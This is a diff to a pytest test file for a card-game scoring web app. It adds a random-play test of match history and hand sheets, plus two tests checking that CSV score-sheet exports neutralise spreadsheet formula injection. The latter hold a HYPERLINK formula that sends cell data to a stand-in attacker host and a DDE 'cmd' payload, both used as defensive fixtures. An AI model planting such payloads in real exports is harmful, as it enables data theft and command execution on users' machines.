@@ -12,6 +12,9 @@ import pytest
 from rest_framework.test import APIClient
 
 from games import services
+from games.rules.base import Move
+from games.rules.tarot.cards import PACK
+from tests.conformance import record
 from tests.play import play_out
 
 pytestmark = pytest.mark.django_db
@@ -82,6 +85,51 @@ def test_live_games_link_to_their_streams_and_carry_their_bonuses(
     assert history["rating"] is not None
 
 
+def play_manchester_hand(game_id: uuid.UUID, rng: random.Random) -> None:
+    """A Piccadilly hand of random legal moves; part two's stock dealt as hands."""
+    pack = list(PACK)
+    rng.shuffle(pack)
+    folded = record(game_id, Move("cards.dealt", {"pack": pack}))
+    rules = folded.engine.rules
+    while not rules.is_terminal(folded.state):
+        legal = rules.legal_events(folded.state)
+        if legal is None:  # part two: the set-aside cards, shuffled and dealt
+            stock = list(folded.state.stock)
+            rng.shuffle(stock)
+            hands = [[stock[0:13], stock[13:26]], [stock[26:39], stock[39:52]]]
+            move = Move("cards.dealt", {"hands": hands})
+        else:
+            move = rng.choice(legal)
+        folded = record(game_id, move)
+
+
+def test_a_manchester_match_shows_each_hand_sheet_in_its_games_and_its_history(
+    api: APIClient, django_capture_on_commit_callbacks: Any
+) -> None:
+    kind = "manchester-piccadilly"
+    match = services.match_start(format=kind, players=[{"name": "Pic"}, {"name": "Cad"}])
+    rng = random.Random(20)
+    games = []
+    with django_capture_on_commit_callbacks(execute=True):
+        for _ in range(2):
+            game = services.game_start(kind=kind, seats=None, match_id=match.pk)
+            play_manchester_hand(game.pk, rng)
+            games.append(game.pk)
+    history = api.get(f"/api/v1/matches/{match.pk}/history/").json()
+    assert history["status"] == "settled"
+    for row, game_id in zip(history["games"], games, strict=True):
+        game = api.get(f"/api/v1/games/{game_id}/").json()
+        sheet = game["hand_sheet"]
+        assert sheet["game_points"] == [s["total"] for s in game["scores"]] == row["scores"]
+        assert len(sheet["first"]) == len(sheet["second"]) == len(sheet["hand_totals"]) == 2
+        assert row["game"] == str(game_id) and row["hand_sheet"] == sheet
+    players = [{"name": "Pic"}, {"name": "Cad"}]
+    sheet_match = services.match_start(format=kind, players=players, entry="sheet")
+    record(sheet_match.pk, Move("game.scored", {"scores": [0, 9]}))
+    (row,) = api.get(f"/api/v1/matches/{sheet_match.pk}/history/").json()["games"]
+    assert row["scores"] == [0, 9] and row["hand_sheet"] is None
+
+
 def test_reports_of_an_unknown_match_or_of_a_game_are_not_found(api: APIClient) -> None:
     game = api.post(
         "/api/v1/games/", {"kind": "scarney-solitaire", "seats": [{"name": "G"}]}, format="json"
@@ -99,3 +147,49 @@ def test_an_unfinished_match_needs_a_login_to_be_read(api: APIClient, anon: APIC
     match = sheet_match(api, [116])
     answer = anon.get(f"/api/v1/matches/{match}/score-sheet.csv")
     assert answer.status_code == 401
+
+
+def test_the_csv_sheet_never_hands_a_spreadsheet_a_formula(api: APIClient) -> None:
+    # given a player named like a formula (names are free text typed at the table)
+    name = '=HYPERLINK("http://evil.example/?"&A1,"Sid")'
+    body = {"format": "scarney-solitaire", "players": [{"name": name}], "entry": "sheet"}
+    match = api.post("/api/v1/matches/", body, format="json").json()
+    event = {"id": str(uuid.uuid4()), "type": "game.scored", "data": {"scores": [116]}}
+    assert (
+        api.post(f"/api/v1/matches/{match['id']}/events/", event, format="json").status_code == 201
+    )
+    rows = list(
+        csv.reader(
+            io.StringIO(api.get(f"/api/v1/matches/{match['id']}/score-sheet.csv").content.decode())
+        )
+    )
+    assert rows[0] == ["Game", "'" + name, "Warnings"]  # shown as text, never evaluated
+    assert rows[1] == ["1", "116 - 116", ""]
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_cell_that_a_spreadsheet_would_evaluate_is_quoted(lead: str) -> None:
+    from scoring.reports import score_sheet_csv
+
+    text = f"{lead}1+cmd|' /C calc'!A0"
+    history = {
+        "players": [{"name": text}, {"name": "Bo"}],
+        "games": [
+            {
+                "number": 1,
+                "scores": [-5, 12],
+                "cumulative": [-5, 12],
+                "warnings": [{"code": "score.x", "message": "m"}],
+            }
+        ],
+        "standing": [{"seat": 0, "total": -5}, {"seat": 1, "total": 12}],
+        "settlement": {"payments": [{"from": 0, "to": 1, "points": 17}]},
+    }
+    rows = list(csv.reader(io.StringIO(score_sheet_csv(history), newline="")))
+    assert rows[0] == ["Game", "'" + text, "Bo", "Warnings"]
+    assert rows[1] == ["1", "'-5 - -5", "12 - 12", "score.x: m"]
+    assert ["Total", "-5", "12"] in rows  # a number is a number, not a formula
+    assert ["Pays", f"'{text} pays Bo 17"] in rows
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell == "-5"
